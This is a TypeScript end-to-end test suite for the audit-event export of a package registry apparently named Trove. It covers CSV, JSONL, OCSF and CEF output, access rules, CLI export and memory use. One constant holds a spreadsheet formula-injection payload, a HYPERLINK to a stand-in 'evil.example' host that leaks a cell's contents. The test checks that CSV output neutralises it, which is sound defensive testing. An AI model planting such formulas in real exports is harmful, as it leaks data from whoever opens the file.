import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import { Api, privateToken } from '../support/api.js';
import { CLI_ACTOR_NAME } from '../support/audit.js';
import { allEvents, ids, jsonlRecords } from '../support/audit-e2e.js';
import { openFaultInjector } from '../support/fault-injection.js';
import { rssDuring } from '../support/generic-curl.js';
import { REPO_ROOT, startTrove, tempDir, type RunningTrove } from '../support/trove-process.js';
import { World, type TestUser } from '../support/world.js';
import { buildAuditScenario, PNPM_UA, publishAroundMark } from '../support/audit-scenario.js';
import { packageTarball, publishBody } from '../support/npm-publish-body.js';

// docs/api.md#audit-export: GET .../audit_events/export in four formats, with the filters (docs/api.md#audit-events) and visibility
// (docs/architecture.md#scope-and-visibility) of the list endpoints, each export audited once; constant memory over a large log; and
// `trove audit export` on the same data.

// A refused request's package name that a spreadsheet would run (docs/architecture.md#bad-input-and-limits: CSV cells are neutralised).
const FORMULA = '=HYPERLINK("evil.example?leak="&A1,"click me")';

// Everything CEF must escape: pipe (header), equals sign (extension), backslash (both), line breaks.
const NASTY = 'use 2.x | not a=b \\ c:\\temp\nsecond line "quoted", too';

const CSV_HEADER = [
  'ID', 'Author ID', 'Author Name', 'Entity ID', 'Entity Type', 'Entity Path', 'Target ID', 'Target Type', 'Target Details',
  'Action', 'IP Address', 'Created At (UTC)', 'Outcome', 'Actor Type', 'Token Name', 'Via', 'Client', 'Pipeline', 'Project',
  'Package Format', 'Package Name', 'Version', 'Seq', 'UUID',
];

/**
 * The CSV row the export must write for a record the list API served (written independently of the
 * exporter): texts a spreadsheet would run as a formula start with ' (OWASP), numbers stay numbers.
 */
function expectedCsvRow(e: any): string[] {
  const text = (v: unknown) => (v === null || v === undefined ? '' : typeof v === 'number' ? String(v) : String(v).replace(/^[=+\-@\t\r]/, "'$&"));
  return [
    text(e.id), text(e.author_id), text(e.details.author_name), text(e.entity_id), text(e.entity_type), text(e.details.entity_path),
    text(e.details.target_id), text(e.details.target_type), text(e.details.target_details), text(e.details.custom_message), text(e.ip_address),
    text(e.created_at), text(e.outcome), text(e.actor.type), text(e.actor.token_name), text(e.via),
    e.client ? (e.client.version ? `${e.client.name}/${e.client.version}` : e.client.name) : '',
    text(e.pipeline?.id), text(e.project?.full_path), text(e.package?.format), text(e.package?.name), text(e.package?.version),
    text(e.seq), text(e.uuid),
  ];
}

/** A CEF line split per the CEF rules: seven header fields (\| and \\ unescaped) and key=value extensions. */
function parseCef(line: string): { header: string[]; ext: Record<string, string> } {
  const header: string[] = [];
  let field = '';
  let i = 0;
  for (; header.length < 7; i++) {
    assert.ok(i < line.length, `truncated CEF header: ${line}`);
    const c = line[i];
    if (c === '\\') {
      const next = line[++i];
      assert.ok(next === '\\' || next === '|', `bad header escape \\${next} in ${line}`);
      field += next;
    } else if (c === '|') {
      header.push(field);
      field = '';
    } else field += c;
  }
  const rest = line.slice(i);
  // A key starts the extension or follows a space, and ends at the first unescaped '='.
  const keys: Array<{ key: string; start: number; valueStart: number }> = [];
  for (let j = 0; j < rest.length; j++) {
    if (rest[j] === '\\') {
      j++;
      continue;
    }
    if (rest[j] === '=') {
      const match = /(?:^| )([A-Za-z0-9]+)$/.exec(rest.slice(0, j));
      assert.ok(match, `unescaped '=' inside a value: ${rest}`);
      keys.push({ key: match[1], start: j - match[1].length, valueStart: j + 1 });
    }
  }
  const ext: Record<string, string> = {};
  keys.forEach((k, n) => {
    const raw = rest.slice(k.valueStart, n + 1 < keys.length ? keys[n + 1].start - 1 : rest.length);
    ext[k.key] = raw.replace(/\\(.)/g, (_, c: string) => {
      const unescaped = ({ '\\': '\\', '=': '=', n: '\n', r: '\r' } as Record<string, string>)[c];
      assert.ok(unescaped !== undefined, `bad extension escape \\${c}`);
      return unescaped;
    });
  });
  return { header, ext };
}

function lines(text: string): string[] {
  assert.ok(text === '' || text.endsWith('\n'), 'every record ends with a newline');
  return text === '' ? [] : text.slice(0, -1).split('\n');
}

describe('audit events export', () => {
  let trove: RunningTrove;
  let world: World;
  let acme: { id: number; full_path: string };
  let platform: { id: number; full_path: string };
  let other: { id: number; full_path: string };
  let webApp: { id: number };
  let tools: { id: number };
  let owner: TestUser;
  let dev: TestUser;
  let reporter: TestUser;
  let outsider: TestUser;
  let devTokenId: number;
  let groupBot: { id: number; token: string };
  let mark: string;
  const acmeEvents = () => `/api/v4/groups/${acme.id}/audit_events`;

  async function exportOf(api: Api, listPath: string, format: string, query = '') {
    const res = await api.get(`${listPath}/export?format=${format}${query}`);
    return res;
  }

  async function jsonlExport(api: Api, listPath: string, query = ''): Promise<any[]> {
    const res = await exportOf(api, listPath, 'jsonl', query);
    assert.equal(res.status, 200, res.text);
    lines(res.text); // every line ends with a newline
    return jsonlRecords(res.text);
  }

  /** The list API's events for the same view and filters, oldest first (the export's order). */
  async function listed(api: Api, listPath: string, query = ''): Promise<any[]> {
    return (await allEvents(api, listPath, query)).reverse();
  }

  async function exportedEvents(): Promise<any[]> {
    return listed(world.root, '/api/v4/audit_events', '&event_name=audit_events_exported');
  }

  before(async () => {
    trove = await startTrove();
    world = new World(trove);
    const scenario = await buildAuditScenario(world);
    ({ acme, platform, other, webApp, tools, owner, dev, devTokenId } = scenario);
    reporter = await world.user('rita');
    outsider = await world.user('otto');
    await world.addMember('groups', acme.id, reporter, 20);
    ({ groupBot, mark } = await publishAroundMark(world, scenario));
    // `npm deprecate` sends the packument without attachments; the message is stored as given.
    const deprecate = await dev.api.put(`/api/v4/projects/${webApp.id}/packages/npm/@acme%2fa`, {
      name: '@acme/a',
      versions: { '1.0.0': { name: '@acme/a', version: '1.0.0', deprecated: NASTY } },
    });
    assert.equal(deprecate.status, 200, deprecate.text);
    // A refused publish whose name is a spreadsheet formula: audited with the name as sent.
    const hostile = await dev.api.put(
      `/api/v4/projects/${webApp.id}/packages/npm/${encodeURIComponent(FORMULA)}`,
      publishBody(FORMULA, '1.0.0', await packageTarball('x', '1.0.0')),
    );
    assert.equal(hostile.status, 400, hostile.text);
  });

  after(async () => {
    await trove?.stop();
  });

  it('exports JSONL equal to the list API, oldest first, for every filter', async () => {
    const queries = [
      '',
      '&include_subgroups=true',
      `&created_after=${encodeURIComponent(mark)}`,
      `&created_before=${encodeURIComponent(mark)}`,
      '&event_name=package_registry_package_published&event_name=deploy_token_created',
      `&author_id=${dev.id}`,
      '&author_username=dev',
      `&token_id=${devTokenId}`,
      `&token_id=${groupBot.id}&token_type=deploy_token`,
      `&package_name=${encodeURIComponent('@acme/a')}`,
      '&package_format=npm&include_subgroups=true',
      `&project_id=${webApp.id}`,
      '&via=pipeline',
      '&outcome=failure',
    ];
    const everything = await listed(owner.api, acmeEvents(), '&include_subgroups=true');
    for (const query of queries) {
      const expected = await listed(owner.api, acmeEvents(), query);
      const exported = await jsonlExport(owner.api, acmeEvents(), query);
      assert.ok(exported.length > 0, `nothing exported for ${query}`);
      if (query !== '&include_subgroups=true') assert.ok(exported.length < everything.length, `${query} filtered nothing`);
      assert.deepEqual(exported, expected, `export with ${query || 'no filter'}`);
    }
    const all = await jsonlExport(owner.api, acmeEvents(), '&include_subgroups=true');
    assert.deepEqual(ids(all), ids(all).slice().sort((x, y) => x - y), 'oldest (lowest seq) first');
    assert.ok(all.every((e) => 'leaf_hash' in e), 'JSONL carries the leaf hash');
    const deprecated = all.find((e) => e.event_name === 'package_registry_package_deprecated');
    assert.equal(deprecated.changes.deprecated.to, NASTY);
    // The project and instance views export what they list too.
    // (Listed first: each export adds its own event to the view, after the end of that export.)
    const projectList = await listed(owner.api, `/api/v4/projects/${webApp.id}/audit_events`);
    assert.deepEqual(await jsonlExport(owner.api, `/api/v4/projects/${webApp.id}/audit_events`), projectList);
    const instance = await listed(world.root, '/api/v4/audit_events', '&via=package_client');
    assert.deepEqual(await jsonlExport(world.root, '/api/v4/audit_events', '&via=package_client'), instance);
  });

  it('exports CSV with the columns of docs/api.md#audit-export, one row per listed event', async () => {
    const expected = await listed(owner.api, acmeEvents(), '&include_subgroups=true');
    const res = await exportOf(owner.api, acmeEvents(), 'csv', '&include_subgroups=true');
    assert.equal(res.status, 200, res.text);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(res.headers.get('content-disposition') ?? '', /^attachment; filename="audit-events-acme-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows: string[][] = parseCsv(res.text);
    assert.deepEqual(rows[0], CSV_HEADER);
    assert.equal(rows.length - 1, expected.length);
    expected.forEach((e, i) => assert.deepEqual(rows[i + 1], expectedCsvRow(e), `row of event ${e.id}`));
    // Quotes, commas and the line break of the deprecation message survive in one field.
    const deprecated = rows.find((row) => row[9].startsWith('npm package deprecated'));
    assert.equal(deprecated?.[9], `npm package deprecated: ${NASTY}`);
    assert.ok(rows.some((row) => row[17] === '7' && row[15] === 'pipeline'), 'the pipeline column');

    const afterMark = await listed(owner.api, acmeEvents(), `&created_after=${encodeURIComponent(mark)}`);
    const filtered: string[][] = parseCsv((await exportOf(owner.api, acmeEvents(), 'csv', `&created_after=${encodeURIComponent(mark)}`)).text);
    assert.deepEqual(filtered.slice(1), afterMark.map(expectedCsvRow));
  });

  it("neutralises spreadsheet formulas in CSV cells with a leading ' (OWASP); CEF and OCSF carry them escaped", async () => {
    const [denied] = await listed(owner.api, acmeEvents(), `&event_name=package_registry_package_publish_denied&package_name=${encodeURIComponent(FORMULA)}`);
    assert.equal(denied.package.name, FORMULA, 'the list API serves the record as stored');
    const res = await exportOf(owner.api, acmeEvents(), 'csv', '&include_subgroups=true');
    assert.equal(res.status, 200, res.text);
    const rows: string[][] = parseCsv(res.text);
    const row = rows.find((r) => r[0] === String(denied.id))!;
    assert.equal(row[CSV_HEADER.indexOf('Package Name')], `'${FORMULA}`);
    assert.equal(row[CSV_HEADER.indexOf('Target Details')], `acme/web-app/${FORMULA}@1.0.0`);
    assert.ok(res.text.includes(`"'${FORMULA.replaceAll('"', '""')}"`), 'the raw field: quoted, inner quotes doubled, after the leading quote');
    // No cell of the whole export begins a formula: only Trove's own numbers may begin with '-'.
    const risky = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+$/.test(cell));
    assert.deepEqual(risky, []);
    assert.ok(rows.some((r) => r[CSV_HEADER.indexOf('Package Name')] === "'@acme/a"), 'a scoped npm name begins with @ too');

    const cef = lines((await exportOf(owner.api, acmeEvents(), 'cef', '&include_subgroups=true')).text).find((l) => l.includes(denied.uuid))!;
    assert.ok(cef.includes(`cs4=npm:${FORMULA.replaceAll('=', '\\=')}`), cef);
    assert.equal(parseCef(cef).ext.cs4, `npm:${FORMULA}@1.0.0`);
    const ocsf = lines((await exportOf(owner.api, acmeEvents(), 'ocsf', '&include_subgroups=true')).text).map((l) => JSON.parse(l));
    assert.equal(ocsf.find((o) => o.metadata.uid === denied.uuid).unmapped.package.name, FORMULA);
  });

  it('exports OCSF: API Activity (6003) for package events, Entity Management (3004) for credentials', async () => {
    const expected = await listed(owner.api, acmeEvents(), '&include_subgroups=true');
    const res = await exportOf(owner.api, acmeEvents(), 'ocsf', '&include_subgroups=true');
    assert.equal(res.status, 200, res.text);
    assert.match(res.headers.get('content-type') ?? '', /^application\/x-ndjson/);
    const records = lines(res.text).map((line) => JSON.parse(line));
    assert.equal(records.length, expected.length);
    const classes = new Set<number>();
    expected.forEach((e, i) => {
      const o = records[i];
      const isPackage = e.event_name.startsWith('package_registry_package_');
      const isCredential = /_token_(created|revoked|issued)$/.test(e.event_name);
      if (isPackage) assert.equal(o.class_uid, 6003, e.event_name);
      if (isCredential) assert.equal(o.class_uid, 3004, e.event_name);
      classes.add(o.class_uid);
      assert.equal(o.category_uid, o.class_uid === 6003 ? 6 : 3);
      assert.equal(o.type_uid, o.class_uid * 100 + o.activity_id);
      assert.equal(o.time, Date.parse(e.created_at));
      assert.equal(o.metadata.uid, e.uuid);
      assert.equal(o.metadata.product.name, 'Trove');
      assert.match(o.metadata.version, /^1\.\d+\.\d+$/);
      assert.equal(o.status_id, e.outcome === 'success' ? 1 : 2);
      assert.ok([1, 2, 3, 4, 5, 6, 99].includes(o.severity_id));
      assert.equal(o.actor.user.name, e.details.author_name);
      assert.equal(o.actor.user.uid, String(e.author_id));
      assert.equal(o.api.operation, e.event_name);
      assert.equal(o.src_endpoint.ip, e.ip_address);
      assert.equal(o.http_request?.user_agent, e.user_agent ?? undefined);
      assert.equal(o.unmapped.seq, e.seq);
      assert.deepEqual(o.unmapped.package, e.package);
    });
    assert.deepEqual([...classes].sort(), [3004, 6003]);
    const published = records.find((o) => o.metadata.event_code === 'package_registry_package_published');
    assert.equal(published.activity_id, 1);
    assert.equal(published.type_uid, 600301);
    const denied = records.find((o) => o.metadata.event_code === 'package_registry_package_publish_denied');
    assert.equal(denied.status_id, 2);
    assert.match(denied.status_detail, /previously published/);
    const deployToken = records.find((o) => o.metadata.event_code === 'deploy_token_created');
    assert.deepEqual([deployToken.class_uid, deployToken.activity_id, deployToken.entity.name], [3004, 1, 'group-bot']);
  });

  it('exports CEF lines with the header and extension escaped per the CEF rules', async () => {
    const expected = await listed(owner.api, acmeEvents(), '&include_subgroups=true');
    const res = await exportOf(owner.api, acmeEvents(), 'cef', '&include_subgroups=true');
    assert.equal(res.status, 200, res.text);
    assert.match(res.headers.get('content-type') ?? '', /^text\/plain/);
    const cef = lines(res.text);
    assert.equal(cef.length, expected.length, 'one line per event: line breaks inside values are escaped');
    expected.forEach((e, i) => {
      const { header, ext } = parseCef(cef[i]);
      assert.deepEqual(header.slice(0, 5), ['CEF:0', 'Trove', 'Trove', '0.1.0', e.event_name]);
      assert.equal(header[5], e.details.custom_message.replace(/\r?\n/g, ' '));
      assert.ok(Number(header[6]) >= 0 && Number(header[6]) <= 10);
      assert.equal(ext.rt, String(Date.parse(e.created_at)));
      assert.equal(ext.externalId, e.uuid);
      assert.equal(ext.act, e.event_name);
      assert.equal(ext.outcome, e.outcome);
      assert.equal(ext.suser, e.details.author_name);
      assert.equal(ext.src, e.ip_address);
      assert.equal(ext.msg, e.details.custom_message);
      assert.equal(ext.cn1Label, 'seq');
      assert.equal(ext.cn1, String(e.seq));
      if (e.changes) assert.deepEqual(JSON.parse(ext.cs6), e.changes);
    });
    const line = cef.find((l) => l.includes('package_registry_package_deprecated'))!;
    // The raw text, not just the parser: \| in the header, \= and \\ and \n in the extension, a bare | in msg.
    assert.ok(line.includes('|npm package deprecated: use 2.x \\| not a=b \\\\ c:\\\\temp second line "quoted", too|'), line);
    assert.ok(line.includes('msg=npm package deprecated: use 2.x | not a\\=b \\\\ c:\\\\temp\\nsecond line "quoted", too'), line);
    assert.equal(parseCef(line).ext.msg, `npm package deprecated: ${NASTY}`);
    assert.deepEqual(JSON.parse(parseCef(line).ext.cs6), { deprecated: { from: null, to: NASTY } });
  });

  it('applies the visibility of the list endpoints', async () => {
    // A developer exports only their own actions, exactly what they may list.
    const devList = await listed(dev.api, acmeEvents(), '&include_subgroups=true');
    const devExport = await jsonlExport(dev.api, acmeEvents(), '&include_subgroups=true');
    assert.ok(devExport.length > 0);
    assert.ok(devExport.every((e) => e.author_id === dev.id), 'a developer saw someone else\'s action');
    assert.ok(devExport.length < (await listed(owner.api, acmeEvents(), '&include_subgroups=true')).length);
    assert.deepEqual(devExport, devList);
    const devProjectList = await listed(dev.api, `/api/v4/projects/${webApp.id}/audit_events`);
    const devProject = await jsonlExport(dev.api, `/api/v4/projects/${webApp.id}/audit_events`);
    assert.ok(devProject.length > 0 && devProject.every((e) => e.author_id === dev.id));
    assert.deepEqual(devProject, devProjectList);

    const before = (await exportedEvents()).length;
    for (const format of ['jsonl', 'csv']) {
      assert.equal((await exportOf(reporter.api, acmeEvents(), format)).status, 403);
      assert.equal((await exportOf(reporter.api, `/api/v4/projects/${webApp.id}/audit_events`, format)).status, 403);
      assert.equal((await exportOf(outsider.api, acmeEvents(), format)).status, 404);
      assert.equal((await exportOf(outsider.api, `/api/v4/projects/${webApp.id}/audit_events`, format)).status, 404);
      assert.equal((await exportOf(dev.api, '/api/v4/audit_events', format)).status, 403);
      assert.equal((await exportOf(new Api(trove.baseUrl), acmeEvents(), format)).status, 401);
    }
    assert.equal((await exportOf(owner.api, acmeEvents(), 'xml')).status, 400);
    assert.equal((await owner.api.get(`${acmeEvents()}/export`)).status, 400, 'format is required');
    assert.equal((await exportOf(owner.api, acmeEvents(), 'csv', '&created_after=soon')).status, 400);
    assert.equal((await exportOf(owner.api, acmeEvents(), 'csv', '&via=fax')).status, 400);
    assert.equal((await exportedEvents()).length, before, 'a refused export is not an export');
  });

  it('records exactly one audit_events_exported per export, with its filters, before streaming', async () => {
    const cases: Array<{ api: Api; path: string; format: string; query: string; filters: Record<string, unknown>; entity: [string, number]; project: number | null }> = [
      {
        api: owner.api, path: acmeEvents(), format: 'csv',
        query: `&created_after=${encodeURIComponent(mark)}&event_name=package_registry_package_published&event_name=ci_job_token_issued&include_subgroups=true`,
        filters: { created_after: mark, event_name: ['package_registry_package_published', 'ci_job_token_issued'], include_subgroups: true },
        entity: ['Group', acme.id], project: null,
      },
      {
        api: dev.api, path: `/api/v4/projects/${webApp.id}/audit_events`, format: 'cef', query: '&via=package_client&outcome=success',
        filters: { via: 'package_client', outcome: 'success', only_author_id: dev.id }, entity: ['Group', acme.id], project: webApp.id,
      },
      {
        api: world.root, path: '/api/v4/audit_events', format: 'ocsf', query: `&package_format=npm&package_name=${encodeURIComponent('@acme/a')}&author_username=dev`,
        filters: { package_format: 'npm', package_name: '@acme/a', author_username: 'dev' }, entity: ['Instance', 0], project: null,
      },
    ];
    for (const c of cases) {
      const before = await exportedEvents();
      const res = await exportOf(c.api, c.path, c.format, c.query);
      assert.equal(res.status, 200, res.text);
      const afterwards = await exportedEvents();
      assert.equal(afterwards.length, before.length + 1, `${c.format} export of ${c.path}`);
      const event = afterwards[afterwards.length - 1];
      assert.deepEqual(event.changes, { format: { from: null, to: c.format }, filters: { from: null, to: c.filters } });
      assert.deepEqual([event.entity_type, event.entity_id], c.entity);
      assert.equal(event.project?.id ?? null, c.project);
      assert.equal(event.outcome, 'success');
      assert.equal(event.actor.username, c.api === world.root ? 'root' : c.api === dev.api ? 'dev' : 'olga');
      assert.ok(!res.text.includes(event.uuid), 'the export contains its own event');
      // The event is in the view that was exported, for the next export to include.
      const nextExport = await jsonlExport(c.api, c.path, '&event_name=audit_events_exported');
      assert.ok(nextExport.some((e) => e.uuid === event.uuid));
    }
  });

  it('`trove audit export` writes the same export from the database, audited as the CLI', async () => {
    const env = { ...process.env, TROVE_DATA_DIR: trove.dataDir, ...(trove.databaseUrl ? { TROVE_DATABASE_URL: trove.databaseUrl } : {}) };
    const cli = (args: string[]) =>
      new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
        const child = spawn(process.execPath, ['--import', 'tsx', 'src/cli/trove.ts', ...args], { cwd: REPO_ROOT, env, stdio: ['ignore', 'pipe', 'pipe'] });
        let stdout = '';
        let stderr = '';
        child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
        child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
        child.on('exit', (code) => resolve({ code, stdout, stderr }));
      });

    const query = `&created_after=${encodeURIComponent(mark)}&event_name=package_registry_package_published&event_name=package_registry_package_publish_denied`;
    const expected = await listed(owner.api, acmeEvents(), query);
    assert.ok(expected.length >= 2);
    const run = await cli(['audit', 'export', '--group', 'acme', '--format', 'jsonl', '--since', mark,
      '--event-name', 'package_registry_package_published', '--event-name', 'package_registry_package_publish_denied']);
    assert.equal(run.code, 0, run.stderr);
    assert.equal(run.stderr, '', 'no progress line when stderr is not a terminal');
    const [header, ...records] = lines(run.stdout).map((line) => JSON.parse(line));
    assert.equal(header.audit_export.filtered, true, 'a filtered export starts with its header line');
    assert.deepEqual(records, expected);
    const [event] = (await exportedEvents()).slice(-1);
    assert.deepEqual(event.actor, { type: 'system', user_id: null, username: null, token_id: null, token_name: null, token_owner_path: null, name: CLI_ACTOR_NAME });
    assert.deepEqual(event.changes.filters.to, { created_after: mark, event_name: ['package_registry_package_published', 'package_registry_package_publish_denied'] });
    assert.deepEqual([event.entity_type, event.entity_id, event.changes.format.to], ['Group', acme.id, 'jsonl']);

    const project = await cli(['audit', 'export', '--project', 'acme/web-app', '--format', 'csv']);
    assert.equal(project.code, 0, project.stderr);
    // The CLI's own event is in the project view now, but not in the export it describes.
    const [projectExport] = (await exportedEvents()).slice(-1);
    assert.equal(projectExport.project.id, webApp.id);
    const projectEvents = (await listed(owner.api, `/api/v4/projects/${webApp.id}/audit_events`)).filter((e) => e.uuid !== projectExport.uuid);
    assert.ok(projectEvents.length > 0);
    assert.deepEqual((parseCsv(project.stdout) as string[][]).slice(1), projectEvents.map(expectedCsvRow));

    const bad = await cli(['audit', 'export', '--format', 'xml']);
    assert.equal(bad.code, 1);
    assert.match(bad.stderr, /format must be one of csv, jsonl, ocsf, cef/);
    assert.equal((await cli(['audit', 'export', '--group', 'nope', '--format', 'csv'])).code, 1);

    // On a terminal, a progress line goes to stderr (script(1) gives the CLI a pseudo-terminal); the records still go to the file.
    const out = join(tempDir(), 'audit.csv');
    const tty = await new Promise<{ code: number | null; output: string }>((resolve) => {
      const command = `${process.execPath} --import tsx src/cli/trove.ts audit export --format csv > ${out}`;
      const child = spawn('script', ['-qec', command, '/dev/null'], { cwd: REPO_ROOT, env, stdio: ['ignore', 'pipe', 'pipe'] });
      let output = '';
      child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
      child.on('exit', (code) => resolve({ code, output }));
    });
    assert.equal(tty.code, 0, tty.output);
    const instanceRows = (parseCsv(readFileSync(out, 'utf8')) as string[][]).slice(1);
    assert.match(tty.output, new RegExp(`\\] ${instanceRows.length}/${instanceRows.length} events`));
    assert.ok(instanceRows.length > expected.length);
  });
});

describe('audit events export in constant memory', () => {
  const EVENTS = 200_000;
  let trove: RunningTrove;

  before(async () => {
    // No sealing here: the rows below are written straight into the database, without leaf hashes.
    // V8's old space is capped at 64 MB: an export held in memory (260 MiB of text) kills the
    // process, whatever the machine's speed; and V8 collects before the cap, so RSS does not
    // measure garbage a lazier collector left for later (a busy CI machine once saw +102 MB
    // without the cap, against +15-28 MB on a quiet one).
    trove = await startTrove({ nodeArgs: ['--max-old-space-size=64'], env: { TROVE_AUDIT_SEAL_EVERY_EVENTS: '10000000', TROVE_AUDIT_SEAL_EVERY_MS: '86400000' } });
  });

  after(async () => {
    await trove?.stop();
  });

  // On PostgreSQL this held only once export-stream.ts empties each page's array after rendering it
  // (pg's promise for the query keeps the result alive from V8's old generation): +26-28 MB, against
  // 68-104 MB before.
  it(`streams ${EVENTS} events as JSONL without growing the server's memory by more than 64 MB`, { timeout: 120_000 }, async () => {
    const template = JSON.stringify({
      id: -111, uuid: '@UUID@', seq: -111, event_name: 'package_registry_package_downloaded', outcome: 'success', reason: null,
      created_at: '2026-01-01T00:00:00.000Z', author_id: -3, entity_id: 0, entity_type: 'Instance',
      details: {
        author_name: 'bulk', author_class: 'System', target_id: null, target_type: 'Packages::Package', target_details: 'bulk',
        custom_message: `bulk event ${'x'.repeat(600)}`, ip_address: null, entity_path: null, auth_token_type: null,
      },
      actor: { type: 'system', user_id: null, username: null, token_id: null, token_name: null, token_owner_path: null, name: 'bulk' },
      via: 'system', client: null, user_agent: null, pipeline: null, project: null, package: null, changes: null, request_id: null, ip_address: null,
    });
    const uuid = `'bulk0000-0000-4000-8000-' || CAST(100000000000 + i AS TEXT)`;
    const record = template
      .split(/(-111|"@UUID@")/)
      .map((part) => (part === '-111' ? 'CAST(b + i AS TEXT)' : part === '"@UUID@"' ? `'"' || ${uuid} || '"'` : `'${part.replaceAll("'", "''")}'`))
      .join(' || ');
    const db = await openFaultInjector(trove);
    const started = Date.now();
    try {
      await db.execute(`WITH RECURSIVE base(b) AS (SELECT COALESCE(MAX(seq), 0) FROM audit_events),
        n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ${EVENTS})
        INSERT INTO audit_events (id, uuid, seq, event_name, outcome, author_id, author_username, actor_type, token_id, entity_type,
          entity_id, entity_path, project_id, package_format, package_name, via, created_at, record, leaf_hash)
        SELECT b + i, ${uuid}, b + i, 'package_registry_package_downloaded', 'success', -3, NULL, 'system', NULL, 'Instance',
          0, NULL, NULL, NULL, NULL, 'system', '2026-01-01T00:00:00.000Z', ${record}, NULL
        FROM base, n`);
      const total = await db.countRows('audit_events');
      assert.ok(total >= EVENTS);
      const inserted = Date.now();

      const pid = trove.process.pid!;
      let count = 0;
      let bytes = 0;
      let first = '';
      let tail = '';
      const { baseline, peak } = await rssDuring(pid, async () => {
        const res = await fetch(`${trove.baseUrl}/api/v4/audit_events/export?format=jsonl`, { headers: privateToken(trove.rootToken) });
        assert.equal(res.status, 200);
        const decoder = new TextDecoder();
        for await (const chunk of res.body!) {
          const text = decoder.decode(chunk, { stream: true });
          bytes += chunk.byteLength;
          for (let i = text.indexOf('\n'); i !== -1; i = text.indexOf('\n', i + 1)) count++;
          if (first.length < 2000) first += text;
          tail = (tail + text).slice(-4000);
        }
      });
      const growth = peak - baseline;
      console.log(`# ${trove.databaseUrl ? 'postgres' : 'sqlite'}: inserted ${EVENTS} events in ${inserted - started} ms; exported ${count} lines, ${(bytes / 2 ** 20).toFixed(0)} MiB in ${Date.now() - inserted} ms; RSS ${(baseline / 2 ** 20).toFixed(0)} MiB -> peak ${(peak / 2 ** 20).toFixed(0)} MiB (+${(growth / 2 ** 20).toFixed(1)} MiB)`);
      assert.equal(count, total, 'every event, and not the export\'s own');
      assert.ok(bytes > EVENTS * 600, 'the records are large enough to matter');
      assert.equal(JSON.parse(first.slice(0, first.indexOf('\n'))).seq, 1);
      const lastLines = tail.trimEnd().split('\n');
      assert.equal(JSON.parse(lastLines[lastLines.length - 1]).seq, total);
      assert.ok(growth < 64 * 2 ** 20, `RSS grew by ${(growth / 2 ** 20).toFixed(1)} MiB`);
    } finally {
      await db.close();
    }
  });
});
